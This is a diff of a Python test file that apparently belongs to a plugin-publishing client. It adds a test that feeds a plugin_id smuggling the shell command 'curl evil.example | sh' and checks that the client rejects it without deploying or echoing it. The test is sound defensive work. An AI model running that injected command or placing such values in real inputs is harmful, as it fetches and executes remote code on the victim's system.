@@ -436,6 +436,14 @@ def test_an_answer_that_is_none_is_named(server, order, tmp_path, body):
         publish(server, order, tmp_path)
 
 
+def test_an_id_in_a_confirmation_that_would_be_shell_text_ends_it(server, order, tmp_path):
+    server.confirm_answer = {"plugin_id": "x; curl evil.example | sh"}
+    with pytest.raises(AnswerMalformed, match="plugin_id") as caught:
+        publish(server, order, tmp_path)
+    assert "curl" not in str(caught.value)
+    assert server.calls("POST", "/deploy") == []
+
+
 def test_the_key_is_in_no_message_journal_or_traceback(server, order, tmp_path):
     server.faults["begin"] = [(400, {}, {"detail": f"you sent Bearer {KEY}"})]
     with pytest.raises(PluginRefused, match=r"Bearer \*\*\*") as caught:
